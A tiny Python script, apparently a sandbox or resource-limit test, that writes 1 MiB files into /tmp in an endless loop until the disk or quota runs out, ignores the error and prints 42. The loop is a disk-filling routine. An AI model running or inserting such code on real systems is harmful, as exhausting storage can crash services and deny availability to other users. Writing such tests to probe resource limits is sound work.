import itertools

try:
    for number in itertools.count():
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 20))
except OSError:
    pass
print(42)
